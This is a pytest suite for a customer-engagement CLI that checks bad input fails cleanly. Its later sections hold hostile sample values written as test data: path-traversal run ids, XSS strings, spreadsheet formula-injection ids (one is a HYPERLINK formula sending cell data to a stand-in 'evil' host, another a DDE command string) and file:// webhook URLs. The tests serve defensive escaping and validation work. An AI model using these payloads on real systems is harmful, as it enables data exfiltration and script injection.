"""Bad input at every batch entry point: a one-line error naming what is wrong, exit != 0.

Never a traceback, a hang, or a silent drop: ingest files (encodings, byte-order marks,
separators, quoted line breaks, time zones, empty and header-only files, directories,
missing and unreadable files, NA-like text, padded and float ids), run ids (path
traversal, absolute paths, NUL bytes), the HTML report and the CSV export (hostile
customer ids and reasons), Rich markup in ids, webhook URLs.
"""

from __future__ import annotations

import builtins
import io

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from cli.main import app
from engage.config import load_params, resolve_paths
from engage.data.io import read_events, read_quarantine
from tests.reliability.batch_runs import write_run

HEADER = "event_id,customer_id,event_time,event_type,value,channel"


@pytest.fixture(autouse=True)
def wide_console(monkeypatch):
    """No line wrapping: a long path would be cut where a message is matched."""
    from cli.ui import console

    monkeypatch.setattr(console, "_width", 1000)


@pytest.fixture
def data_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("ENGAGE_DATA_DIR", str(tmp_path / "data"))
    (tmp_path / "data").mkdir()
    return tmp_path / "data"


@pytest.fixture
def paths(data_dir):
    return resolve_paths(load_params())


def engage(*args: str):
    result = CliRunner().invoke(app, list(args))
    assert "Traceback" not in result.output, result.output
    return result.exit_code, " ".join(result.output.split())


def fails(*args: str, code: int = 1) -> str:
    exit_code, out = engage(*args)
    assert exit_code == code, out
    return out


def ingest(path, *extra: str) -> tuple[int, str]:
    # These files are small and often mostly bad on purpose, to show each rule: the
    # share of bad rows that stops an ingest is tested on its own (test_ingest_mapping).
    return engage("--set", "data.max_bad_share=1", "data", "ingest", str(path), *extra)


# ----------------------------------------------------------------- files and encodings


def test_latin1_file_names_the_byte_offset_and_the_fix(tmp_path, data_dir):
    path = tmp_path / "latin.csv"
    path.write_bytes(
        f"{HEADER}\ne1,c1,2025-05-01T10:00:00Z,web_visit,10,caf\xe9\n".encode("latin-1")
    )
    out = fails("data", "ingest", str(path))
    # 57 bytes of header, 43 before the é on line 2.
    assert out.startswith("error: ") and "byte offset 100 (line 2) is not valid utf-8" in out
    assert "--encoding latin-1" in out and not (data_dir / "events.parquet").exists()
    code, out = ingest(path, "--encoding", "latin-1")
    assert code == 0, out
    assert read_events(data_dir / "events.parquet")["channel"].tolist() == ["café"]


def test_byte_order_marks(tmp_path, data_dir):
    body = f"{HEADER}\ne1,c1,2025-05-01T10:00:00Z,web_visit,10,web\n"
    bom = tmp_path / "bom.csv"
    bom.write_bytes(b"\xef\xbb\xbf" + body.encode())
    code, out = ingest(bom)
    assert code == 0 and "1 rows = 1 good + 0 bad" in out, out
    utf16 = tmp_path / "utf16.csv"
    utf16.write_bytes(body.replace("e1", "e2").encode("utf-16"))
    assert "UTF-16 byte-order mark: pass --encoding utf-16" in fails("data", "ingest", str(utf16))
    code, out = ingest(utf16, "--encoding", "utf-16")
    assert code == 0, out
    assert read_events(data_dir / "events.parquet")["event_id"].tolist() == ["e1", "e2"]
    assert "unknown encoding 'klingon'" in fails(
        "data", "ingest", str(bom), "--encoding", "klingon"
    )


@pytest.mark.parametrize(("sep", "name"), [(";", "semicolon"), ("\t", "tab"), ("|", "pipe")])
def test_separators_are_detected_or_given(tmp_path, data_dir, sep, name):
    path = tmp_path / "mine.csv"
    row = ["e1", "c1", "2025-05-01T10:00:00Z", "purchase", '"12,5"', "web"]
    path.write_text(HEADER.replace(",", sep) + "\n" + sep.join(row) + "\n")
    code, out = ingest(path)
    assert code == 0 and f"read as {name}-separated" in out, out
    # The quoted value keeps its comma: a decimal comma is not a number.
    assert "not_numeric on value: 1 row, e.g. '12,5'" in out
    # Forced to the wrong separator: one column, and the error says what to do.
    plain = tmp_path / "plain.csv"
    plain.write_text(HEADER.replace(",", sep) + "\n" + sep.join(row).replace('"12,5"', "3") + "\n")
    code, out = ingest(plain, "--sep", ",")
    assert code == 1 and f"is it {name}-separated? use --sep" in out, out
    assert "--sep 'x': use one of" in fails("data", "ingest", str(path), "--sep", "x")


def test_quoted_line_breaks_and_time_zones(tmp_path, data_dir):
    path = tmp_path / "mine.csv"
    path.write_text(
        f"{HEADER}\n"
        'e1,c1,2025-05-01T10:00:00+02:00,web_visit,5,"two\nlines"\n'
        "e2,c1,2025-05-01 08:00:00,web_visit,5,web\n"
        "e3,c1,2025-05-01T03:00:00-05:00,web_visit,5,web\n"
        "e4,c1,2025-05-01 10:00 CET,web_visit,5,web\n"
    )
    code, out = ingest(path)
    assert code == 0 and "4 rows = 3 good + 1 bad" in out, out
    assert "unparsable_timestamp on event_time: 1 row, e.g. '2025-05-01 10:00 CET'" in out
    stored = read_events(data_dir / "events.parquet")
    assert (stored["event_time"] == pd.Timestamp("2025-05-01 08:00", tz="UTC")).all()
    assert stored["channel"].tolist()[0] == "two\nlines"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.csv", b"", "is empty: expected a header line and rows"),
        ("blank.csv", b"\n\n", "is empty: expected a header line and rows"),
        ("header.csv", f"{HEADER}\n".encode(), "has a header but no rows: nothing to ingest"),
        (
            "ragged.csv",
            f"{HEADER}\ne1,c1,2025-05-01,web_visit,5,web,extra\n".encode(),
            "malformed CSV",
        ),
        ("bad.parquet", b"not parquet at all", "not a readable Parquet file"),
        ("events.xlsx", b"PK", "unsupported file type '.xlsx'"),
    ],
)
def test_unusable_files(tmp_path, data_dir, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    out = fails("data", "ingest", str(path))
    assert out.startswith("error: ") and message in out, out
    assert not (data_dir / "events.parquet").exists()


def test_directories_missing_and_unreadable_files(tmp_path, data_dir, monkeypatch):
    (tmp_path / "folder.csv").mkdir()
    assert "is a directory" in fails("data", "ingest", str(tmp_path / "folder.csv"))
    assert "nope.csv does not exist" in fails("data", "ingest", str(tmp_path / "nope.csv"))
    locked = tmp_path / "locked.csv"
    locked.write_text(f"{HEADER}\n")
    real_open = builtins.open

    def deny(file, *args, **kwargs):
        if str(file) == str(locked):
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    # The suite runs as root, which reads any file: deny the open itself.
    monkeypatch.setattr(builtins, "open", deny)
    assert f"cannot read {locked}: Permission denied" in fails("data", "ingest", str(locked))


# ----------------------------------------------------------------- cell contents


def test_na_like_text_is_never_silently_missing(tmp_path, data_dir):
    path = tmp_path / "na.csv"
    path.write_text(
        f"{HEADER},campaign_id\n"
        "e1,NA,2025-05-01,web_visit,5,web,c9\n"
        "e2,c1,2025-05-01,web_visit,5,NA,null\n"
        "e3,c1,2025-05-01,web_visit,n/a,web,\n"
        "e4,None,2025-05-01,web_visit,5,web,\n"
        "e5,c1,nan,web_visit,5,web,\n"
    )
    code, out = ingest(path)
    assert code == 0 and "5 rows = 1 good + 4 bad" in out, out
    assert "placeholder_id on customer_id: 2 rows, e.g. 'NA', 'None'" in out
    assert "not_numeric on value: 1 row, e.g. 'n/a'" in out
    assert "unparsable_timestamp on event_time: 1 row, e.g. 'nan'" in out
    stored = read_events(data_dir / "events.parquet")
    # A channel or campaign called NA or null is text, kept as sent.
    assert stored[["channel", "campaign_id"]].values.tolist() == [["NA", "null"]]
    quarantined = read_quarantine(data_dir / "quarantine.parquet")
    assert quarantined["customer_id"].tolist() == ["NA", "c1", "None", "c1"]


def test_ids_are_trimmed_and_the_report_says_so(tmp_path, data_dir):
    path = tmp_path / "ids.csv"
    path.write_text(
        f"{HEADER}\n"
        "e1,c1 ,2025-05-01,web_visit,5,web\n"
        "e2, c1,2025-05-02,web_visit,5,web\n"
        " e3,c1,2025-05-03,web_visit,5,web\n"
    )
    code, out = ingest(path)
    assert code == 0 and "note: customer_id: 2 values trimmed of surrounding spaces" in out, out
    assert "note: event_id: 1 value trimmed" in out
    stored = read_events(data_dir / "events.parquet")
    assert stored["customer_id"].unique().tolist() == ["c1"]
    assert stored["event_id"].tolist() == ["e1", "e2", "e3"]


def test_numeric_parquet_ids_are_exact_or_refused(tmp_path, data_dir):
    base = {
        "event_time": ["2025-05-01T00:00:00Z"] * 2,
        "event_type": ["web_visit"] * 2,
    }
    exact = tmp_path / "ints.parquet"
    pd.DataFrame(
        {"event_id": np.array([2**53 + 1, 2**60 + 7]), "customer_id": [7, 8], **base}
    ).to_parquet(exact)
    code, out = ingest(exact)
    assert code == 0, out
    assert read_events(data_dir / "events.parquet")["event_id"].tolist() == [
        str(2**53 + 1),
        str(2**60 + 7),
    ]
    floats = tmp_path / "floats.parquet"
    pd.DataFrame(
        {"event_id": ["f1", "f2"], "customer_id": np.array([12.0, 2.0**60]), **base}
    ).to_parquet(floats)
    code, out = ingest(floats)
    assert code == 1 and "inexact_id on customer_id: 1 row" in out, out
    assert "2^53" in out and "nothing written" in out


def test_dates_out_of_range_and_numbers_beyond_float(tmp_path, data_dir):
    path = tmp_path / "edge.csv"
    path.write_text(
        f"{HEADER}\n"
        "e1,c1,1500-01-01,web_visit,5,web\n"
        "e2,c1,2300-06-01T00:00:00Z,web_visit,5,web\n"
        "e3,c1,2025-05-01,purchase,1e309,web\n"
        "e4,c1,2025-05-01,purchase,-1e309,web\n"
        "e5,c1,2025-13-45,web_visit,5,web\n"
    )
    code, out = ingest(path)
    assert code == 0, out
    assert "timestamp_out_of_range on event_time: 2 rows" in out
    assert "out of range (before 1677 / after 2262)" in out
    assert "infinite_value on value: 2 rows, e.g. '1e309', '-1e309'" in out
    assert "unparsable_timestamp on event_time: 1 row, e.g. '2025-13-45'" in out
    assert "not_numeric" not in out


def test_strict_and_mapping_errors_exit_non_zero(tmp_path, data_dir):
    path = tmp_path / "mine.csv"
    path.write_text(f"{HEADER}\ne1,c1,2025-05-01,teleport,5,web\n")
    code, out = ingest(path, "--strict")
    assert code == 1 and "unknown_event_type on event_type: 1 row" in out
    assert "nothing written" in out and not (data_dir / "events.parquet").exists()
    assert "unknown field 'client'" in fails("data", "ingest", str(path), "--map", "a=client")


def test_reingesting_the_last_file_is_a_no_op(tmp_path, data_dir):
    path = tmp_path / "mine.csv"
    path.write_text(
        f"{HEADER}\ne1,c1,2025-05-01,web_visit,5,web\ne2,c1,2025-05-01,teleport,5,web\n"
    )
    assert ingest(path)[0] == 0
    code, out = ingest(path)
    assert code == 0 and "already ingested" in out and "2 rows = 1 good + 1 bad" in out, out
    assert len(read_events(data_dir / "events.parquet")) == 1
    assert len(read_quarantine(data_dir / "quarantine.parquet")) == 1


# ----------------------------------------------------------------- commands without data


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("features", "build"), "events not found at"),
        (("features", "build", "--as-of", "nonsense"), "--as-of: Unknown datetime string"),
        (("train", "--model", "churn"), "churn: no feature snapshots under"),
        (("score",), "no feature snapshots under"),
        (("at-risk",), "no scoring run under"),
        (("transitions", "--no-post"), "no scoring run under"),
        (("report",), "events.parquet does not exist; create it with"),
        (("data", "validate"), "events.parquet does not exist; create it with"),
    ],
)
def test_each_command_on_an_empty_data_dir_says_what_to_run(data_dir, args, message):
    out = fails(*args)
    assert out.startswith("error: ") or "error: " in out, out
    assert message in out, out


# ----------------------------------------------------------------- run ids


@pytest.mark.parametrize("bad", ["../x", "/etc/passwd", "a\x00b", "..", "a/b", ""])
def test_run_ids_never_become_paths(data_dir, bad):
    commands = [
        ("score", "--run-id", bad),
        ("at-risk", "--run", bad),
        ("transitions", "--from", bad, "--no-post"),
        ("transitions", "--to", bad, "--no-post"),
    ]
    for args in commands:
        out = fails(*args)
        assert out.startswith("error: run id") and "letters, digits" in out, (args, out)
    assert not [p for p in data_dir.parent.rglob("*") if p.name in ("x", "passwd")]


# ----------------------------------------------------------------- outputs with hostile data

HOSTILE = [
    {
        "customer_id": "<script>alert(1)</script>",
        "reason": "<img src=x onerror=alert(2)>",
        "segment": "<i>seg</i>",
    },
    {"customer_id": '=HYPERLINK("http://evil/?"&A1,"x")', "clv": 900.0},
    {"customer_id": "+cmd|' /C calc'!A0", "clv": 800.0},
    {"customer_id": "@SUM(1+1)", "clv": 700.0},
    {"customer_id": "-2+3", "clv": 600.0},
    {"customer_id": "[/]", "clv": 550.0},
    {"customer_id": "[bold red]boom[/bold red]", "clv": 540.0, "reason": "[link=x]y[/link]"},
    {"customer_id": ":smile:", "clv": 530.0},
]


def test_csv_export_neutralises_formulas_and_keeps_numbers(paths):
    write_run(paths, "r1", HOSTILE, "2025-06-01")
    result = CliRunner().invoke(app, ["at-risk", "--format", "csv", "--top", "10"])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(io.StringIO(result.output), keep_default_na=False)
    ids = frame["customer_id"].tolist()
    assert '\'=HYPERLINK("http://evil/?"&A1,"x")' in ids
    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3"} <= set(ids)
    assert "<script>alert(1)</script>" in ids and "[/]" in ids
    assert not [i for i in ids if i[:1] in "=+-@\t\r"]
    # Numbers stay numbers (read back as floats, not text with a quote).
    assert pd.api.types.is_float_dtype(frame["value_at_risk"])
    assert frame["clv"].max() == 900.0


def test_cli_tables_print_ids_literally(paths):
    write_run(paths, "r1", [{**r, "stage": "Retention"} for r in HOSTILE], "2025-06-01")
    write_run(paths, "r2", HOSTILE, "2025-06-08")
    for args in (("at-risk", "--top", "10"), ("transitions", "--no-post")):
        result = CliRunner().invoke(app, list(args), env={"COLUMNS": "400"})
        assert result.exit_code == 0, result.output
        for literal in ("[/]", "[bold red]boom[/bold red]", ":smile:", "<script>"):
            assert literal in result.output, (args, literal)
    out = CliRunner().invoke(app, ["at-risk", "--top", "10"], env={"COLUMNS": "400"}).output
    assert "[link=x]y[/link]" in out


def test_html_report_escapes_every_user_string(paths):
    from engage.data.simulate import simulate_to_parquet
    from reporting.report import build_report

    params = load_params(overrides=("simulate.customers=150", "simulate.days=60"))
    simulate_to_parquet(params.simulate, params.data, paths.events, paths.customers)
    write_run(paths, "r1", [{**r, "stage": "Retention"} for r in HOSTILE], "2025-06-01")
    write_run(paths, "r2", HOSTILE, "2025-06-08")
    html = build_report(paths, params).read_text()
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<i>seg</i>" not in html and "&lt;i&gt;seg&lt;/i&gt;" in html


# ----------------------------------------------------------------- webhooks


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("file:///etc/passwd", "scheme 'file' is not allowed; use http:// or https://"),
        ("ftp://example.com/x", "scheme 'ftp' is not allowed"),
        ("gopher://example.com", "scheme 'gopher' is not allowed"),
        ("http://", "has no host"),
        ("example.com/hook", "scheme '(none)' is not allowed"),
        ("http://exa mple.com", "contains spaces or control characters"),
        ("http://example.com:99999999", "is malformed"),
    ],
)
def test_a_webhook_with_another_scheme_is_a_configuration_error(data_dir, url, message):
    out = fails("transitions", "--webhook", url, code=2)
    assert out.startswith("error: --webhook: webhook URL") and message in out, out
    assert "rerun to retry" not in out
